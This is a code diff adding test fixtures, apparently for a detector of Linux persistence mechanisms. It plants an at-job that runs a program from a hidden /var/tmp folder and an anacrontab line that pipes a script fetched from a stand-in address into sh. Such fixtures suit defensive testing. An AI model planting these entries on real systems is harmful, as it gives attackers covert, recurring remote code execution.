@@ -6,6 +6,25 @@ const atHead =
 
 export const cases: readonly MechanismCase[] = [
   {
+    mechanism: 'at-job',
+    dress: 'unowned-binary',
+    what: 'a program in a folder that a variable of the job names',
+    planted: {
+      '/var/spool/cron/atjobs/a0000501c7d1e0': atHead
+        .replace('cd /root', 'W=/var/tmp/.w; export W\ncd /root')
+        .concat('exec $W/upd\n'),
+      '/var/tmp/.w/upd': inertProgram(),
+    },
+  },
+  {
+    mechanism: 'anacron',
+    dress: 'fetch-and-run',
+    what: 'an address in a variable of the table',
+    planted: {
+      '/etc/anacrontab': 'SHELL=/bin/sh\nU=http://192.0.2.21/b.sh\n1 5 cron.daily wget -qO- $U | sh\n',
+    },
+  },
+  {
     mechanism: 'cron-period',
     dress: 'fetch-and-run',
     what: 'a script that fetches every day',
